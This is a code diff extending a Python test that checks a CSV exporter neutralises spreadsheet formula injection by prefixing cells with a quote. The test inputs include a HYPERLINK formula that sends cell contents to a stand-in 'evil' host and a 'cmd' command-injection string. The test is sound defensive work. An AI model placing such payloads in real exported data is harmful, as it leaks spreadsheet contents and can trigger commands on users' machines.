@@ -27,7 +27,9 @@ from iobands.reporting.openmetrics import history_metrics, state_metrics
 from iobands.results.export import csv_text, json_text, write_parquet
 from iobands.results.perflog import read_perflogs
 from iobands.site.site import Site
+from tests.conftest import Command
 from tests.factory import NOW, daily, line, write_perflog
+from tests.fault_table import Observed
 from tests.reporting.sites import look
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -221,8 +223,11 @@ def test_a_pipe_is_written_to_and_a_link_is_replaced(iobands, root: Path) -> Non
 LINK = '=HYPERLINK("http://evil?"&A1,"x")'
 
 
+@pytest.mark.fault("perflogs", "a name that a spreadsheet would run", "in CSV a ' is before it")
 @pytest.mark.parametrize("text", [LINK, "+1+cmd!A0", "-1+1", "@SUM(A1)"])
-def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path: Path, text: str) -> None:
+def test_no_text_is_a_formula_in_a_spreadsheet(
+    tmp_path: Path, text: str, iobands: Command, observed: Observed
+) -> None:
     write_perflog(tmp_path, [line(stripe_count_asked="-1"), line(pattern=text)])
     table = pl.read_csv(csv_text(read_perflogs(tmp_path)).encode())
     assert table["pattern"].to_list()[1].lstrip("'").strip() == text.strip()
@@ -232,3 +237,9 @@ def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path: Path, text: str) -> Non
     page = document_of([Table(("name", "rate"), ((text, "-1.5"),))], DocumentFormat.CSV)
     ((name, rate),) = list(csv.reader(page.splitlines()))[1:]
     assert (name, rate) == (f"'{text}", "-1.5")
+    write_perflog(tmp_path / "perflogs", [line(pattern=text)])
+    done = iobands("export", "--format", "csv")
+    header, cells = csv.reader(done.stdout.splitlines())
+    assert cells[header.index("pattern")] == f"'{text}"
+    message = f"pattern: {cells[header.index('pattern')]}"
+    observed(**{**done.cells(), "message": message}, next_run=done.returncode == 0)
